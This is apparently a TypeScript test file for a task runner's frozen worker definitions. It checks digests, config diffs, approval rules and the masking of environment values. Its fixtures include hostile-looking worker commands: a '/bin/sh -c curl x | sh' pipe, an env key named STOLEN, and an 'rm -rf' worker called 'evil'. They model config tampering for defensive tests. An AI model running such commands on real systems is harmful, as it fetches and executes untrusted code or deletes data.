import assert from 'node:assert/strict';
import { parseConfig, type BatonConfig } from '../../../src/engine/domain/config';
import {
  canonicalJson,
  commandLine,
  describeWorkerChange,
  diffWorkers,
  freezeWorkers,
  frozenDefinition,
  needsApproval,
  workersInUse,
} from '../../../src/engine/domain/frozenWorkers';
import { runSettingsFrom, settingsDiffering } from '../../../src/engine/domain/runSettings';
import { frozenWorkerFor } from '../../../src/engine/domain/workerLaunch';

function config(text: object): BatonConfig {
  const { config: parsed, issues } = parseConfig(JSON.stringify(text));
  assert.deepEqual(
    issues.filter((i) => i.severity === 'error'),
    [],
  );
  return parsed;
}

const BASE = {
  defaultWorker: 'impl',
  workers: {
    impl: { type: 'process', command: 'node', args: ['work.js', '{taskId}'], env: { API_KEY: 'k-1' } },
    review: { type: 'codex', model: 'o4' },
  },
};

/** Issue 15, item 7: the worker definitions a run froze, their digest, and how a config differs from them. */
describe('frozen worker definitions: digest and diff', () => {
  it('a digest does not depend on key order, whitespace or comments, and changes with any definition', () => {
    const a = freezeWorkers(config(BASE));
    const reordered = parseConfig(
      `{ // the same settings, written otherwise
        "workers": { "review": { "model": "o4", "type": "codex" },
                     "impl": { "env": { "API_KEY": "k-1" }, "args": ["work.js", "{taskId}"], "command": "node", "type": "process" } },
        "defaultWorker": "impl" }`,
    ).config;
    assert.equal(freezeWorkers(reordered).digest, a.digest);
    assert.equal(freezeWorkers(reordered).configSeen, a.configSeen);
    assert.match(a.digest, /^sha256:[0-9a-f]{64}$/);
    const envValue = freezeWorkers(
      config({ ...BASE, workers: { ...BASE.workers, impl: { ...BASE.workers.impl, env: { API_KEY: 'k-2' } } } }),
    );
    assert.notEqual(envValue.digest, a.digest, 'an env value is part of the definition');
    const other = freezeWorkers(config({ ...BASE, defaultWorker: 'review' }));
    assert.notEqual(other.digest, a.digest, 'the default worker is part of it');
    const riskOnly = freezeWorkers(config({ ...BASE, riskTags: ['x'] }));
    assert.equal(riskOnly.digest, a.digest, 'settings that are not workers leave the workers digest alone');
    assert.notEqual(riskOnly.configSeen, a.configSeen, '…but not the config digest');
  });

  it('canonical JSON sorts keys at every level and keeps array order', () => {
    assert.equal(canonicalJson({ b: [{ d: 1, c: 2 }], a: null }), '{"a":null,"b":[{"c":2,"d":1}]}');
  });

  it('a changed command names the worker and both command lines, and env keys without their values', () => {
    const frozen = freezeWorkers(config(BASE));
    const current = freezeWorkers(
      config({
        ...BASE,
        workers: {
          ...BASE.workers,
          impl: {
            type: 'process',
            command: '/bin/sh',
            args: ['-c', 'curl x | sh'],
            env: { API_KEY: 'k-9', STOLEN: 's3cret' },
          },
        },
      }),
    );
    const changes = diffWorkers(frozen, current);
    assert.equal(changes.length, 1);
    assert.deepEqual(changes[0], {
      workerId: 'impl',
      kind: 'changed',
      from: 'node work.js {taskId}',
      to: "/bin/sh -c 'curl x | sh'",
      envAdded: ['STOLEN'],
      envRemoved: [],
      envChanged: ['API_KEY'],
      fields: [],
    });
    const line = describeWorkerChange(changes[0]!);
    assert.equal(
      line,
      'worker "impl": `node work.js {taskId}` → `/bin/sh -c \'curl x | sh\'`; env keys added: STOLEN; env values changed: API_KEY',
    );
    assert.doesNotMatch(line, /s3cret|k-9|k-1/, 'no env value is ever shown');
    assert.ok(needsApproval(changes[0]!));
  });

  it('an env-only or option-only change is a change too (same command line)', () => {
    const frozen = freezeWorkers(config(BASE));
    const current = freezeWorkers(
      config({
        ...BASE,
        workers: { ...BASE.workers, impl: { ...BASE.workers.impl, result: 'exit-code', env: {} } },
      }),
    );
    const [change] = diffWorkers(frozen, current);
    assert.equal(change!.kind, 'changed');
    assert.deepEqual(change!.envRemoved, ['API_KEY']);
    assert.deepEqual(change!.fields, ['result: (unset) → "exit-code"']);
    assert.equal(
      describeWorkerChange(change!),
      'worker "impl": `node work.js {taskId}`; result: (unset) → "exit-code"; env keys removed: API_KEY',
    );
  });

  it('a new worker, a new default worker and a removed worker', () => {
    const frozen = freezeWorkers(config(BASE));
    const current = freezeWorkers(
      config({
        defaultWorker: 'evil',
        workers: { evil: { type: 'process', command: 'rm', args: ['-rf', '/tmp/x y'] }, review: BASE.workers.review },
      }),
    );
    const changes = diffWorkers(frozen, current);
    assert.deepEqual(
      changes.map((c) => [c.kind, c.workerId]),
      [
        ['default', 'defaultWorker'],
        ['added', 'evil'],
        ['removed', 'impl'],
      ],
    );
    assert.deepEqual(changes.map(describeWorkerChange), [
      'default worker: "impl" → "evil"',
      'new worker "evil": `rm -rf \'/tmp/x y\'`',
      'worker "impl" is no longer in the config (the run keeps `node work.js {taskId}`)',
    ]);
    assert.deepEqual(
      changes.map(needsApproval),
      [true, true, false],
      'a removed definition needs nobody: the run keeps its own',
    );
  });

  it('with the workers in use, only their changes count (and the default only when a task relies on it)', () => {
    const frozen = freezeWorkers(config(BASE));
    const current = freezeWorkers(
      config({
        defaultWorker: 'review',
        workers: { ...BASE.workers, review: { type: 'codex', model: 'o5' } },
      }),
    );
    const named = workersInUse([{ worker: 'impl' }, { worker: null }]);
    assert.deepEqual(named, { ids: ['impl'], usesDefault: true });
    assert.deepEqual(
      diffWorkers(frozen, current, named).map((c) => c.workerId),
      ['defaultWorker', 'review'],
      'a task on the default: the new default and its definition',
    );
    assert.deepEqual(diffWorkers(frozen, current, workersInUse([{ worker: 'impl' }])), [], 'impl is unchanged');
    assert.deepEqual(
      diffWorkers(frozen, current, workersInUse([{ worker: 'impl' }], 'review')).map((c) => c.workerId),
      ['review'],
      'the override is what every task uses',
    );
    assert.deepEqual(workersInUse([], 'review'), { ids: [], usesDefault: false }, 'no task left: nothing in use');
  });

  it('a built-in that the config replaces is a change; one it does not mention is Baton’s', () => {
    const frozen = freezeWorkers(config(BASE));
    assert.equal(frozenDefinition(frozen, 'manual')?.type, 'manual');
    assert.equal(frozenDefinition(frozen, 'constructor'), undefined, 'no prototype key is a worker');
    const current = freezeWorkers(
      config({
        ...BASE,
        workers: { ...BASE.workers, 'claude-code': { type: 'claude-code', executable: '/tmp/claude' } },
      }),
    );
    const changes = diffWorkers(frozen, current, workersInUse([{ worker: 'claude-code' }]));
    assert.equal(changes.length, 1);
    assert.match(
      describeWorkerChange(changes[0]!),
      /^worker "claude-code": `claude \(claude-code preset\)` → `\/tmp\/claude \(claude-code preset\)`$/,
    );
  });

  it('a stored definition from an older Baton is read with today’s defaults: no change', () => {
    const frozen = freezeWorkers(config(BASE));
    // As stored before `continueSession` existed (the field then had no default value).
    const { continueSession: _dropped, ...older } = frozen.workers.review as Record<string, unknown>;
    const stored = { ...frozen, workers: { ...frozen.workers, review: older as never } };
    assert.deepEqual(diffWorkers(stored, frozen), []);
  });

  it('command lines lose control characters and are cut to 200 characters', () => {
    const line = commandLine({
      type: 'process',
      command: 'node',
      args: ['a\u001b[31mred\nnext', 'x'.repeat(300)],
      env: {},
    });
    // eslint-disable-next-line no-control-regex -- what must not be there
    assert.doesNotMatch(line, /[\u0000-\u001f]/);
    assert.equal(line.length, 200);
    assert.ok(line.endsWith('…'));
  });

  it('a run starts with its workers frozen; settingsDiffering lists the other frozen settings the file changed', () => {
    const settings = runSettingsFrom(config(BASE));
    assert.equal(settings.workers?.digest, freezeWorkers(config(BASE)).digest);
    assert.deepEqual(settingsDiffering(settings, config({ ...BASE, leaseSeconds: 30, maxConcurrency: 9 })), [
      'leaseSeconds',
    ]);
    assert.equal(settings.maxArtifactBytes, 1024 * 1024, 'the artifact limit is frozen too');
    assert.deepEqual(settingsDiffering(settings, config({ ...BASE, maxArtifactBytes: 4096 })), ['maxArtifactBytes']);
  });

  it('a spawn resolves only a frozen worker: one the run never froze is refused (worker.not-frozen)', () => {
    const frozen = freezeWorkers(config(BASE));
    assert.equal(frozenWorkerFor(frozen, 'impl').type, 'process');
    assert.throws(
      () => frozenWorkerFor(frozen, 'evil'),
      (err: Error & { code?: string }) =>
        err.code === 'worker.not-frozen' &&
        /Worker "evil" is not one of the worker definitions this run froze/.test(err.message),
    );
  });
});
